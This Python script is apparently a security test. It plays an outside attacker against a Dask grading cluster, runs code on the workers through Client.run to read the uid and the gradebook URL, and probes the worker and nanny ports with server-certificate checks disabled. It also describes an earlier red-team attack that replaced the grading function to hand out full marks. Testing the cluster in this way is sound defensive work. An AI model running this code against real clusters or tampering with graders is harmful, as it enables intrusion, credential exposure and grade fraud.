"""A stranger on the network (or an unprivileged local user) against the grading cluster.

    python dask_attacker.py SCHEDULER [--certs DIR] [--worker ADDRESS] [--nanny ADDRESS]
                            [--on-scheduler]

Has no course files. Connects to SCHEDULER (with the client certificate in DIR if given,
e.g. one from its own CA) and, if that works, runs its own code on every worker with
`Client.run`: what the issue's red team did there (replace `cluster.grade_task` with a
fake that hands out full marks, read the gradebook URL) needs nothing more, so here it
only reads what the worker knows and leaves the grading function alone (with
`--on-scheduler`, it runs code on the scheduler instead). With `--worker` and `--nanny`
it also talks to that worker's and nanny's own ports directly. Prints one JSON object:
attempt -> "RAN: ..." or "refused: ...". The direct attempts accept any server
certificate, so that what refuses them is the server's check of the client.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os


def take_over() -> str:
    """Runs on a worker: anything; here, what the worker knows."""
    import autograder.grading.cluster as cluster

    return (f"uid {os.getuid()}, gradebook {os.environ.get('RNN_COURSE_DB_URL')}, "
            f"could replace {cluster.grade_task.__name__}")


def on_scheduler() -> str:
    return f"scheduler pid {os.getpid()}, uid {os.getuid()}"


def security(folder: str | None):
    from distributed import Security

    if not folder:
        return None
    return Security(tls_ca_file=f"{folder}/ca.pem", tls_client_cert=f"{folder}/client.pem",
                    tls_client_key=f"{folder}/client-key.pem", require_encryption=True)


def attack_scheduler(address: str, folder: str | None, scheduler_only: bool) -> str:
    from distributed import Client

    try:
        with Client(address, security=security(folder), timeout=3) as client:
            if scheduler_only:
                return "RAN: " + client.run_on_scheduler(on_scheduler)
            return "RAN: " + "; ".join(client.run(take_over).values())
    except Exception as error:  # noqa: BLE001
        return f"refused: {type(error).__name__}: {error}"[:300]


def ask_identity(address: str, folder: str | None) -> str:
    """Talk to a server's port directly, trusting any server certificate and offering the
    stranger's own (if any): only the server's check of the client can refuse."""
    import ssl

    from distributed.comm import connect

    args = {}
    if address.startswith("tls://"):
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
        if folder:
            ctx.load_cert_chain(f"{folder}/client.pem", f"{folder}/client-key.pem")
        args["ssl_context"] = ctx

    async def go():
        comm = await connect(address, timeout=3, **args)
        try:
            await comm.write({"op": "identity", "reply": True})
            answer = await comm.read()
        finally:
            await comm.close()
        return f"RAN: identity {answer.get('type')} {answer.get('id')}"

    try:
        return asyncio.run(go())
    except Exception as error:  # noqa: BLE001
        return f"refused: {type(error).__name__}: {error}"[:300]


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("scheduler")
    parser.add_argument("--certs")
    parser.add_argument("--worker")
    parser.add_argument("--nanny")
    parser.add_argument("--on-scheduler", action="store_true")
    args = parser.parse_args()
    out = {"attacker uid": os.getuid(),
           "scheduler identity": ask_identity(args.scheduler, args.certs)}
    if args.certs or not args.scheduler.startswith("tls://"):  # (a Client needs a cert)
        out["scheduler"] = attack_scheduler(args.scheduler, args.certs, args.on_scheduler)
    if args.worker:
        out["worker identity"] = ask_identity(args.worker, args.certs)
    if args.nanny:
        out["nanny identity"] = ask_identity(args.nanny, args.certs)
    print(json.dumps(out))


if __name__ == "__main__":
    main()
